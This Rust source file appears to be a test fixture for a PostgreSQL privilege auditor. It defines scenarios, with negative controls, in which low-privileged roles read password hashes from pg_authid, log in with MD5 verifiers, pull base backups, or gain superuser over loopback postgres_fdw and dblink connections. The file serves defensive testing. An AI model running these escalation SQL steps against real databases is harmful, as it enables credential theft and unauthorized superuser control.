//! Credentials that are read, and connections from the server to itself.

use pgward_audit::paths::graph::Sink;
use pgward_audit::paths::mechanism::Mechanism;
use pgward_audit::rule::Versions;

use crate::scenario::{Act, Claim, End, NONE, Scenario};

pub(crate) const SCENARIOS: &[Scenario] = &[
    Scenario {
        name: "credential_catalog",
        claim: Claim::Edge(Mechanism::CredentialCatalog, End::Sink(Sink::AllRead)),
        from: End::Role("credential_catalog_low"),
        own_database: false,
        applies: Versions::ALL,
        works: Versions::ALL,
        scene: r#"
            LOGIN credential_catalog_low;
            GRANT SELECT (rolname, rolpassword) ON pg_authid TO credential_catalog_low;
        "#,
        acts: &[Act::LowSees(
            "credential_catalog_low",
            r#"SELECT count(*) > 0 FROM (SELECT rolpassword FROM pg_authid WHERE rolpassword IS NOT NULL) s"#,
            r#"t"#,
        )],
    },
    Scenario {
        name: "credential_other_column",
        claim: Claim::Edge(Mechanism::CredentialCatalog, End::Sink(Sink::AllRead)),
        from: End::Role("credential_other_column_low"),
        own_database: false,
        applies: Versions::ALL,
        works: NONE,
        scene: r#"
            LOGIN credential_other_column_low;
            GRANT SELECT (rolname) ON pg_authid TO credential_other_column_low;
        "#,
        acts: &[Act::Low("credential_other_column_low", r#"SELECT rolpassword FROM pg_authid"#)],
    },
    Scenario {
        name: "verifier_md5",
        claim: Claim::Edge(Mechanism::Md5Verifier, End::Sink(Sink::Superuser)),
        from: End::Sink(Sink::AllRead),
        own_database: false,
        applies: Versions::ALL,
        works: Versions::ALL,
        scene: r#"
            LOGIN verifier_md5_low;
            GRANT pg_read_all_data TO verifier_md5_low;
            SET password_encryption = md5; SET client_min_messages = error; CREATE ROLE verifier_md5_root SUPERUSER LOGIN PASSWORD 'nobody knows this';
        "#,
        acts: &[Act::LogsInByMd5("verifier_md5_root", "verifier_md5_low")],
    },
    Scenario {
        name: "base_backup",
        claim: Claim::Edge(Mechanism::BaseBackup, End::Sink(Sink::AllRead)),
        from: End::Role("base_backup_low"),
        own_database: false,
        applies: Versions::ALL,
        works: Versions::ALL,
        scene: r#"
            LOGIN base_backup_low;
            ALTER ROLE base_backup_low REPLICATION; CREATE TABLE base_backup_t (v text);
            INSERT INTO base_backup_t VALUES ('a row nobody granted'); CHECKPOINT;
        "#,
        acts: &[Act::BackupHolds("base_backup_low", "a row nobody granted")],
    },
    Scenario {
        name: "base_backup_denied",
        claim: Claim::Edge(Mechanism::BaseBackup, End::Sink(Sink::AllRead)),
        from: End::Role("base_backup_denied_low"),
        own_database: false,
        applies: Versions::ALL,
        works: NONE,
        scene: r#"
            LOGIN base_backup_denied_low;
        "#,
        acts: &[Act::BackupHolds("base_backup_denied_low", "a row nobody granted")],
    },
    Scenario {
        name: "foreign_loopback",
        claim: Claim::Edge(Mechanism::ForeignLoopback, End::Sink(Sink::Superuser)),
        from: End::Role("foreign_loopback_low"),
        own_database: false,
        applies: Versions::ALL,
        works: Versions::ALL,
        scene: r#"
            LOGIN foreign_loopback_low;
            CREATE EXTENSION IF NOT EXISTS postgres_fdw; CREATE SCHEMA foreign_loopback AUTHORIZATION foreign_loopback_low;
            CREATE SERVER foreign_loopback FOREIGN DATA WRAPPER postgres_fdw OPTIONS (host '127.0.0.1', port '{port}', dbname 'field', sslmode 'disable');
            GRANT USAGE ON FOREIGN SERVER foreign_loopback TO foreign_loopback_low;
            CREATE USER MAPPING FOR foreign_loopback_low SERVER foreign_loopback OPTIONS (user 'postgres', password_required 'false');
        "#,
        acts: &[
            Act::Low(
                "foreign_loopback_low",
                r#"CREATE FOREIGN TABLE foreign_loopback.roles (rolname name, rolsuper boolean) SERVER foreign_loopback OPTIONS (schema_name 'pg_catalog', table_name 'pg_authid')"#,
            ),
            Act::Low(
                "foreign_loopback_low",
                r#"UPDATE foreign_loopback.roles SET rolsuper = true WHERE rolname = 'foreign_loopback_low'"#,
            ),
            Act::IsSuperuser("foreign_loopback_low"),
        ],
    },
    Scenario {
        name: "foreign_password",
        claim: Claim::Edge(Mechanism::ForeignLoopback, End::Sink(Sink::Superuser)),
        from: End::Role("foreign_password_low"),
        own_database: false,
        applies: Versions::ALL,
        works: NONE,
        scene: r#"
            LOGIN foreign_password_low;
            CREATE EXTENSION IF NOT EXISTS postgres_fdw; CREATE SCHEMA foreign_password AUTHORIZATION foreign_password_low;
            CREATE SERVER foreign_password FOREIGN DATA WRAPPER postgres_fdw OPTIONS (host '127.0.0.1', port '{port}', dbname 'field', sslmode 'disable');
            GRANT USAGE ON FOREIGN SERVER foreign_password TO foreign_password_low;
            CREATE USER MAPPING FOR foreign_password_low SERVER foreign_password OPTIONS (user 'postgres');
        "#,
        acts: &[
            Act::Low(
                "foreign_password_low",
                r#"CREATE FOREIGN TABLE foreign_password.roles (rolname name, rolsuper boolean) SERVER foreign_password OPTIONS (schema_name 'pg_catalog', table_name 'pg_authid')"#,
            ),
            Act::Low(
                "foreign_password_low",
                r#"UPDATE foreign_password.roles SET rolsuper = true WHERE rolname = 'foreign_password_low'"#,
            ),
            Act::IsSuperuser("foreign_password_low"),
        ],
    },
    Scenario {
        name: "dblink_loopback",
        claim: Claim::Edge(Mechanism::DblinkLoopback, End::Sink(Sink::Superuser)),
        from: End::Role("dblink_loopback_low"),
        own_database: false,
        applies: Versions::ALL,
        works: Versions::ALL,
        scene: r#"
            LOGIN dblink_loopback_low;
            CREATE EXTENSION IF NOT EXISTS dblink; GRANT EXECUTE ON FUNCTION dblink_connect_u(text) TO dblink_loopback_low;
        "#,
        acts: &[
            Act::Low(
                "dblink_loopback_low",
                r#"SELECT dblink_connect_u('host=127.0.0.1 port={port} user=postgres dbname=field sslmode=disable'); SELECT dblink_exec('ALTER ROLE dblink_loopback_low SUPERUSER')"#,
            ),
            Act::IsSuperuser("dblink_loopback_low"),
        ],
    },
    Scenario {
        name: "dblink_plain",
        claim: Claim::Edge(Mechanism::DblinkLoopback, End::Sink(Sink::Superuser)),
        from: End::Role("dblink_plain_low"),
        own_database: false,
        applies: Versions::ALL,
        works: NONE,
        scene: r#"
            LOGIN dblink_plain_low;
            CREATE EXTENSION IF NOT EXISTS dblink;
        "#,
        acts: &[
            Act::Low(
                "dblink_plain_low",
                r#"SELECT dblink_connect('host=127.0.0.1 port={port} user=postgres dbname=field sslmode=disable'); SELECT dblink_exec('ALTER ROLE dblink_plain_low SUPERUSER')"#,
            ),
            Act::IsSuperuser("dblink_plain_low"),
        ],
    },
];
